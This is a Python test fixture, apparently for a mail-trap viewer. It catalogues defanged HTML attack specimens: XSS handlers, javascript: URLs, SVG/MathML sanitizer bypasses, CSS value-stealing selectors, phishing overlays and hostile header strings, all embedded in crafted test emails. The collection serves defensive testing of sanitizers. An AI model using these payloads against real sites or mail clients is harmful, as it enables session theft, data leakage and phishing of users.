# ruff: noqa: E501  # a specimen is one line
"""HTML that attacks whoever looks at it, written for the tests: each specimen alone, with what it would do.

In a specimen, {run} is a script that gives itself away on the console, {at} an address on loopback that
a test listens at, {host} and {tls} the same by a name. They all tell the specimen's name.
"""

from typing import NamedTuple

from trap.envelope import Envelope, Rcpt
from trap.job import Job, new_id

RUNS, ASKS, DEAD = "runs", "asks", "dead"
"""What a specimen does in an unguarded page of today's Chromium: run a script, ask somebody outside, or
nothing: it is a trick of the past, on a sanitizer, or on the page around it."""


class Specimen(NamedTuple):
    """One attack."""

    name: str
    does: str
    source: str
    alone: bool = False
    """It wants the whole window, the focus, or a free line: no page for others beside it."""

    def html(self, port: int) -> str:
        """The specimen, asking a listener at a port of loopback."""
        host = f"{self.name}.zoo.example"
        return (
            self.source.replace("{run}", f"console.log(/ran-{self.name}/)")
            .replace("{at}", f"http://127.0.0.1:{port}/{self.name}")
            .replace("{host}", host)
            .replace("{tls}", f"https://{host}")
        )


ZOO = [
    # Scripts
    Specimen("script", RUNS, "<script>{run}</script>"),
    Specimen("script-in-table", RUNS, "<table><tr><td><script>{run}</script></table>"),
    Specimen("script-upper", RUNS, "<SCRIPT\n>{run}</SCRIPT\n>"),
    Specimen("script-module", RUNS, "<script type=module>{run}</script>"),
    Specimen("script-from", ASKS, "<script src={at}.js></script>"),
    Specimen("script-open", DEAD, "<script>{run}//"),
    Specimen("script-beacon", ASKS, "<script>navigator.sendBeacon('{at}')</script>"),
    Specimen("script-fetch", ASKS, "<script>fetch('//{host}/')</script>"),
    Specimen("script-window", ASKS, "<script>location='{at}'</script>"),
    Specimen("script-message", RUNS, "<script>top.postMessage('x','*');{run}</script>"),
    Specimen("script-top", ASKS, "<script>top.location='{at}'</script>", alone=True),
    Specimen("script-parent", RUNS, "<script>parent.document.title='stolen';{run}</script>"),
    # Handlers
    Specimen("image-error", RUNS, "<img src=x: onerror={run}>"),
    Specimen("image-slash", RUNS, "<img/src='x:'/onerror={run}>"),
    Specimen("image-quotes", RUNS, '<img src="x:" title=">" onerror="{run}">'),
    Specimen("image-null", RUNS, "<img src=x: onerror\n=\n{run}\n>"),
    Specimen("body-load", RUNS, "<body onload={run}>"),
    Specimen("toggle", RUNS, "<details open ontoggle={run}>x</details>"),
    Specimen("animation", RUNS, "<style>@keyframes a{}</style><b style=animation-name:a onanimationstart={run}>x</b>"),
    Specimen("focus", RUNS, "<input autofocus onfocus={run}>", alone=True),
    Specimen("tabindex", RUNS, "<b id=x tabindex=1 onfocus={run} autofocus>x</b>", alone=True),
    Specimen("click", RUNS, "<a href=# onclick={run}>x</a>"),
    Specimen("video-error", RUNS, "<video><source onerror={run}></video>"),
    Specimen("marquee", DEAD, "<marquee onstart={run}>x</marquee>"),
    Specimen("unknown-tag", RUNS, "<zoo onclick={run}><a href=#>x</a></zoo>"),
    Specimen("hidden-state", DEAD, "<b onbeforematch={run} hidden=until-found>x</b>"),
    # Addresses that are programs
    Specimen("javascript-link", RUNS, "<a href=javascript:{run}>x</a>"),
    Specimen("javascript-mixed", RUNS, "<a href=' jAvA&Tab;scr&NewLine;ipt&colon;{run}'>x</a>"),
    Specimen("javascript-frame", RUNS, "<iframe src=javascript:parent.{run}></iframe>"),
    Specimen("javascript-form", RUNS, "<form action=javascript:{run}><button>x</button></form>"),
    Specimen("javascript-formaction", RUNS, "<form><button formaction=javascript:{run}>x</button></form>"),
    Specimen("javascript-object", DEAD, "<object data=javascript:{run}></object><embed src=javascript:{run}>"),
    Specimen("javascript-style", DEAD, "<p style='background:url(javascript:{run});color:expression({run})'>x"),
    Specimen("javascript-meta", DEAD, '<meta http-equiv=refresh content="0;url=javascript:{run}">'),
    Specimen("vbscript-link", DEAD, "<a href=vbscript:msgbox(1)>x</a>"),
    Specimen("data-frame", RUNS, "<iframe src='data:text/html,<script>{run}</script>'></iframe>"),
    Specimen("data-object", RUNS, "<object data='data:text/html,<script>{run}</script>'></object>"),
    Specimen("data-link", RUNS, "<a href='data:text/html,<script>{run}</script>'>x</a>"),
    Specimen("data-svg", DEAD, "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload={run}/>'>"),
    Specimen("srcdoc", RUNS, "<iframe srcdoc='<script>{run}</script>'></iframe>"),
    Specimen("srcdoc-entities", RUNS, "<iframe srcdoc='&lt;img src=x: onerror={run}&gt;'></iframe>"),
    # SVG, MathML, and what sanitizers misread
    Specimen("svg-load", RUNS, "<svg onload={run}></svg>"),
    Specimen("svg-script", RUNS, "<svg><script>{run}</script></svg>"),
    Specimen("svg-script-href", ASKS, "<svg><script href={at}.js></script></svg>"),
    Specimen("svg-animate", RUNS, "<svg><animate onbegin={run} attributeName=x dur=1s></svg>"),
    Specimen("svg-link", RUNS, "<svg><a href=javascript:{run}><text x=9 y=9>x</text></a></svg>"),
    Specimen("svg-animated-link", RUNS, "<svg><a><animate attributeName=href values=javascript:{run} /><text x=9 y=9>x</text></a></svg>"),
    Specimen("svg-image", ASKS, "<svg><image href={at}.png width=9 height=9 /></svg>"),
    Specimen("svg-use", DEAD, "<svg><use href={at}.svg#x /></svg>"),
    Specimen("svg-foreign", RUNS, "<svg><foreignObject><body xmlns=http://www.w3.org/1999/xhtml onload={run}><img src=x: onerror={run}></foreignObject></svg>"),
    Specimen("svg-filter", ASKS, "<svg><filter id=f><feImage href={at}.png /></filter><rect width=9 height=9 filter=url(#f) /></svg>"),
    Specimen("svg-style", RUNS, "<svg></p><style><a id='</style><img src=x: onerror={run}>'>"),
    Specimen("math-link", DEAD, "<math href=javascript:{run}>x</math>"),
    Specimen("math-style", DEAD, "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x: onerror={run}&gt;'>"),
    Specimen("math-form", DEAD, "<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror={run}>"),
    Specimen("math-annotation", RUNS, "<math><annotation-xml encoding=text/html><style><img src=x: onerror={run}></style></annotation-xml></math><img src=x: onerror={run}>"),
    Specimen("noscript-title", RUNS, "<noscript><p title='</noscript><img src=x: onerror={run}>'>"),
    Specimen("template", DEAD, "<template><script>{run}</script></template>"),
    Specimen("template-shadow", RUNS, "<div><template shadowrootmode=open><img src=x: onerror={run}></template></div>"),
    Specimen("textarea", RUNS, "<textarea></textarea><img src=x: onerror={run}></textarea>"),
    Specimen("title-end", RUNS, "<title><a title='</title><img src=x: onerror={run}>'>"),
    Specimen("select", RUNS, "<select><style></select><svg><style><a title='</style><img src=x: onerror={run}>'>"),
    Specimen("comment", RUNS, "<!--><img src=x: onerror={run}>-->"),
    Specimen("comment-bang", RUNS, "<!-- --!><img src=x: onerror={run}> -->"),
    Specimen("conditional", DEAD, "<!--[if gte mso 9]><script>{run}</script><![endif]-->"),
    Specimen("cdata", RUNS, "<![CDATA[><img src=x: onerror={run}>]]>"),
    Specimen("instruction", RUNS, "<?xml ?><img src=x: onerror={run}>"),
    Specimen("xmp", RUNS, "<xmp></xmp><img src=x: onerror={run}><plaintext>"),
    Specimen("attribute-end", RUNS, "<b title=\"x\"><img src=x: onerror={run}>\">x</b>"),
    Specimen("deep", RUNS, "<div>" * 600 + "<img src=x: onerror={run}>" + "</div>" * 600),
    # What leads away
    Specimen("refresh", ASKS, "<meta http-equiv=refresh content='0;url={at}'>"),
    Specimen("refresh-table", ASKS, "<table><td><meta http-equiv=refresh content=\"0; URL='//{host}/'\">"),
    Specimen("base", ASKS, "<base href=http://{host}/><img src=x.png><a href=y>x</a>"),
    Specimen("base-target", ASKS, "<base target=_blank><a href={at}>x</a>"),
    Specimen("link", ASKS, "<a href={at}>x</a>"),
    Specimen("link-tls", ASKS, "<a href={tls}/>x</a>"),
    Specimen("link-top", ASKS, "<a href={at} target=_top>x</a>", alone=True),
    Specimen("link-opener", ASKS, "<a href={at} target=_blank rel=opener>x</a>"),
    Specimen("link-ping", ASKS, "<a href=# ping={at}>x</a>"),
    Specimen("link-download", ASKS, "<a href={at}.exe download=invoice.pdf>x</a>"),
    Specimen("area", ASKS, "<img usemap=#m src=x: width=9 height=9><map name=m><area href={at} shape=default></map>"),
    Specimen("form", ASKS, "<form action={at} method=post><input name=password autofocus><button>x</button></form>"),
    Specimen("formaction", ASKS, "<form action=x:><button formaction=http://{host}/>x</button></form>"),
    Specimen("form-elsewhere", ASKS, "<form id=f action=x:></form><button form=f formaction={at}>x</button>"),
    Specimen("image-button", ASKS, "<form action={at}><input type=image src={at}.png></form>"),
    # What asks for things when it is seen
    Specimen("image", ASKS, "<img src={at}.png>"),
    Specimen("image-host", ASKS, "<img src=//{host}/x.png>"),
    Specimen("image-tls", ASKS, "<img src={tls}/x.png>"),
    Specimen("image-backslash", ASKS, "<img src='http:\\\\{host}\\x.png'>"),
    Specimen("image-set", ASKS, "<img srcset='{at}.png 1x, //{host}/y.png 2x'>"),
    Specimen("image-lazy", ASKS, "<img loading=eager fetchpriority=high src={at}.png>"),
    Specimen("picture", ASKS, "<picture><source srcset={at}.png><img></picture>"),
    Specimen("video", ASKS, "<video src={at}.mp4 autoplay muted></video>"),
    Specimen("poster", ASKS, "<video poster={at}.png></video>"),
    Specimen("audio", ASKS, "<audio src={at}.mp3 autoplay preload=auto></audio>"),
    Specimen("track", ASKS, "<video src={at}.mp4 crossorigin><track default kind=captions src={at}.vtt></video>"),
    Specimen("frame", ASKS, "<iframe src={at}></iframe>"),
    Specimen("frameset", ASKS, "<frameset><frame src={at}></frameset>"),
    Specimen("object", ASKS, "<object data={at}.html type=text/html></object>"),
    Specimen("embed", ASKS, "<embed src={at}.html type=text/html>"),
    Specimen("background", ASKS, "<body background={at}.png>x"),
    Specimen("background-cell", ASKS, "<table background=//{host}/a.png><td background={at}.png>x</table>"),
    Specimen("stylesheet", ASKS, "<link rel=stylesheet href={at}.css>"),
    Specimen("prefetch", ASKS, "<link rel=prefetch href={at}>"),
    Specimen("preload", ASKS, "<link rel=preload as=image href={at}.png>"),
    Specimen("modulepreload", ASKS, "<link rel=modulepreload href={at}.js>"),
    Specimen("preconnect", DEAD, "<link rel=preconnect href={tls}/>"),
    Specimen("dns-prefetch", DEAD, "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href=//{host}/>"),
    Specimen("icon", DEAD, "<link rel=icon href={at}.ico>"),
    Specimen("manifest", DEAD, "<link rel=manifest href={at}.json>"),
    Specimen("speculation", DEAD, '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["{at}"]}]}</script>'),
    Specimen("importmap", ASKS, '<script type=importmap>{"imports":{"x":"{at}.js"}}</script><script type=module>import "x"</script>'),
    Specimen("csp-report", ASKS, "<meta http-equiv=Content-Security-Policy content=\"img-src 'none'\"><img src=x:><script>fetch('{at}')</script>"),
    # Styles
    Specimen("style-url", ASKS, "<p style='background:url({at}.png)'>x"),
    Specimen("style-escaped", ASKS, "<p style='b\\61 ckground:u\\72l(//{host}/)'>x"),
    Specimen("style-image-set", ASKS, "<p style='background-image:image-set(\"{at}.png\" 1x)'>x"),
    Specimen("style-content", ASKS, "<style>p::before{content:url({at}.png)}</style><p>x"),
    Specimen("style-cursor", ASKS, "<p style='cursor:url({at}.cur),auto'>x"),
    Specimen("style-list", ASKS, "<ul><li style='list-style-image:url({at}.png)'>x</ul>"),
    Specimen("style-quote", ASKS, "<p style='font-family:\"x\";background:url({at}.png)'>x"),
    Specimen("style-border", ASKS, "<p style='border:9px solid;border-image:url({at}.png) 9'>x"),
    Specimen("style-mask", ASKS, "<p style='-webkit-mask:url({at}.png)'>x"),
    Specimen("style-import", ASKS, "<style>@import url({at}.css);</style>"),
    Specimen("style-import-host", ASKS, "<style>@import '//{host}/x.css';</style>"),
    Specimen("style-font", ASKS, "<style>@font-face{font-family:z;src:url({at}.woff)}p{font-family:z}</style><p>x"),
    Specimen("style-steal", ASKS, "<style>input[value^=s]{background:url({at}.png)}</style><input value=secret>"),
    Specimen("style-variable", ASKS, "<p style='--u:url({at}.png);background:var(--u)'>x"),
    Specimen("style-behaviour", DEAD, "<p style='behavior:url({at}.htc);-moz-binding:url({at}.xml#x)'>x"),
    # What covers or bursts the page around it
    Specimen("overlay", DEAD, "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>Log in again</div>"),
    Specimen("overlay-sticky", DEAD, "<style>body{position:fixed;inset:0}</style><p style='position:absolute;top:-900px'>x"),
    Specimen("huge", DEAD, "<table width=999999999 height=999999999><td style='width:99999999px;height:99999999px;font-size:9999999px'>x</table>"),
    Specimen("clobber", DEAD, "<form id=documentElement name=body><input name=location id=content></form><img name=getElementById id=L1>"),
    Specimen("close-frame", DEAD, "</body></html></iframe></main><h1>Log in again</h1>"),
]  # fmt: skip
"""As they say in mail: <b>never</b> open these elsewhere."""

SAYINGS = [
    "<script>console.log(/ran-words/)</script>",
    "\"'><img src=x: onerror=console.log(/ran-words/)>",
    "</title></pre></textarea><svg onload=console.log(/ran-words/)>",
    "{{7*7}}${7*7}<%=7*7%>",
    "javascript:console.log(/ran-words/)",
    "\u202egnp.exe\u2066\u200b\x1b[31mred\x1b]0;title\x07\x00\x7f\u2028",
    "' onmouseover=console.log(/ran-words/) x='",
]
"""What hostile mail says where only words are expected: names, subjects, file names, queries."""


def letter(specimen: Specimen, port: int) -> bytes:
    """A mail with a specimen as its HTML, and in its subject and its sender's name."""
    html = specimen.html(port)
    line = " ".join(html.split())[:900]
    return (
        f"From: {line} <{specimen.name}@zoo.example>\r\nTo: trap@mx.trap.example\r\n"
        f"Subject: {line}\r\nContent-Type: text/html; charset=utf-8\r\n\r\n{html}\r\n"
    ).encode()


def everything(port: int, salt: str = "") -> bytes:
    """A mail with all specimens and all sayings in its headers, text, HTML and the names of its files."""
    lines = [" ".join(specimen.html(port).split())[:900] for specimen in ZOO] + SAYINGS
    headers = "".join(f"X-Zoo-{number}: {line}\r\n" for number, line in enumerate(lines))
    ways = "".join(
        f"Received: from {saying} ({saying} [192.0.2.{number}]) by {saying} with {saying} id {saying};"
        f" Sun, 1 Nov 2026 1{number}:00:00 +0000\r\n"
        for number, saying in enumerate(SAYINGS)
    )
    files = "".join(
        f'--zoo\r\nContent-Type: {kind}; name="{name}.{kind[-4:]}"\r\n'
        f'Content-Disposition: attachment; filename="{name}"\r\nContent-ID: <{name}>\r\n\r\n'
        "<script>console.log(/ran-file/)</script>\r\n"
        for name, kind in zip(
            SAYINGS,
            (
                "image/svg+xml",
                "text/html",
                "application/xhtml+xml",
                "application/pdf",
                *["application/zoo"] * 9,
            ),
            strict=False,
        )
    )
    text = "\r\n".join(lines)
    html = "\r\n".join(specimen.html(port) for specimen in ZOO if specimen.does != DEAD)
    return (
        f"{ways}From: {SAYINGS[1]} <zoo@zoo.example>\r\nTo: trap@mx.trap.example\r\n"
        f"Reply-To: {SAYINGS[0]} <{SAYINGS[6]}@zoo.example>\r\n"
        f"Subject: {SAYINGS[2]} {SAYINGS[5]} {salt}\r\n{headers}MIME-Version: 1.0\r\n"
        'Content-Type: multipart/mixed; boundary="zoo"\r\n\r\n'
        f"--zoo\r\nContent-Type: text/plain; charset={SAYINGS[0]}\r\n\r\n{text} {salt}\r\n"
        f"--zoo\r\nContent-Type: text/html\r\n\r\n{html}\r\n{files}--zoo--\r\n"
    ).encode()


def job(message: bytes, at: float, campaign: str = "") -> Job:
    """A mail that came in a session of which nothing can be believed either."""
    envelope = Envelope(
        client_ip="192.0.2.66",
        helo=SAYINGS[1],
        mail_from=SAYINGS[0],
        rcpts=[Rcpt(address="trap@mx.trap.example", params=[SAYINGS[6]], tag="zoo")],
        received_at=at,
        connected_at=at - 2,
        errors=[f"550 {saying}" for saying in SAYINGS],
        dialect={"unknown_verbs": SAYINGS, "auth": [{"mechanism": SAYINGS[0], "user": SAYINGS[1]}]},
    )
    notes: dict[str, object] = {saying: {saying: [saying, {saying: saying}]} for saying in SAYINGS}
    if campaign:
        notes["dedup"] = {"campaign": campaign, "count": 2}
    return Job(new_id(at), envelope, notes, message)
